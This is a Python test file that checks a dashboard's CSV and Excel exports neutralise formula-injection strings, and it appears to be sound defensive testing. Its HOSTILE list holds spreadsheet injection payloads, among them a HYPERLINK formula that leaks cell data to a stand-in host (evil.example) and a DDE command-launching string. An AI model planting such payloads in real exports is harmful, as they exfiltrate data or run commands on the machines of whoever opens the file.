"""CSV and Excel exports never carry a live formula, whatever text a report holds.

Hostile strings are put into every text column an export has (单位, 来源文件, 账号, 原文, 说明…), made
here and by hypothesis; the CSV is read back with the csv module and the Excel file with openpyxl.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from disclosure.dashboard import exports

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "-185",
    "+86 10 1234",
    "@某某发布",
    "＝全角等号",
]
SAFE = ["平潭综合实验区", "某某发布", "1+1=2", " =leading space", ""]


def frame(texts: list[str]) -> pd.DataFrame:
    n = len(texts)
    return pd.DataFrame(
        {
            "agency": texts,
            "source_file": texts[::-1],
            "account": texts,
            "raw": texts,
            "message": texts,
            "year": [2024] * n,
            "value": [-185.0 if i % 2 else 3.5 for i in range(n)],
            "requests__new__total": pd.array([None if i % 3 == 0 else -i for i in range(n)], dtype="Int64"),
        }
    )


def _formula_like(text: str) -> bool:
    return text.startswith(("=", "+", "-", "@", "\t", "\r"))


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def check_csv(df: pd.DataFrame) -> None:
    rows = csv_cells(exports.to_csv(df))
    header, body = rows[0], rows[1:]
    text_cols = [
        i
        for i, h in enumerate(header)
        if h in {exports.column_label(c) for c in ("agency", "source_file", "account", "raw", "message")}
    ]
    assert len(text_cols) == 5
    for row in body:
        for i in text_cols:
            assert not _formula_like(row[i]), row[i]
    originals = df["agency"].tolist()
    got = [row[text_cols[0]] for row in body]
    for orig, cell in zip(originals, got, strict=True):
        assert cell == ("'" + orig if _formula_like(orig) else orig)


def check_excel(df: pd.DataFrame) -> None:
    book = openpyxl.load_workbook(io.BytesIO(exports.to_excel(df, '=HYPERLINK("http://x")', "申请情况")))
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not _formula_like(cell.value), (ws.title, cell.coordinate, cell.value)
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    value_col = header.index(exports.column_label("value")) + 1
    assert all(isinstance(sheet.cell(r, value_col).value, int | float) for r in range(2, sheet.max_row + 1))


def test_hostile_strings_are_neutralised_in_csv_and_excel() -> None:
    df = frame(HOSTILE + SAFE)
    check_csv(df)
    check_excel(df)


def test_numbers_stay_numbers_and_blank_stays_blank() -> None:
    rows = csv_cells(exports.to_csv(frame(["a", "b", "c"])))
    header = rows[0]
    vi = header.index(exports.column_label("value"))
    ti = header.index(exports.column_label("requests__new__total"))
    assert [r[vi] for r in rows[1:]] == ["3.5", "-185", "3.5"]  # negative numbers are not text
    assert [r[ti] for r in rows[1:]] == ["", "-1", "-2"]


def test_neutralise_leaves_non_text_alone() -> None:
    df = pd.DataFrame({"n": [-1, 2], "f": [-1.5, None], "s": ["-x", None]})
    out = exports.neutralise(df)
    assert out["n"].tolist() == [-1, 2] and out["f"].tolist()[0] == -1.5
    assert out["s"].tolist()[0] == "'-x" and out["s"].isna().tolist() == [False, True]


@settings(max_examples=60, deadline=2000, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(
        st.text(alphabet=st.sampled_from(list("=+-@\t\r'\"，,;|AB1平 \n")), max_size=12),
        min_size=1,
        max_size=6,
    )
)
def test_any_text_is_neutralised(texts: list[str]) -> None:
    df = frame(texts)
    check_csv(df)
    check_excel(df)
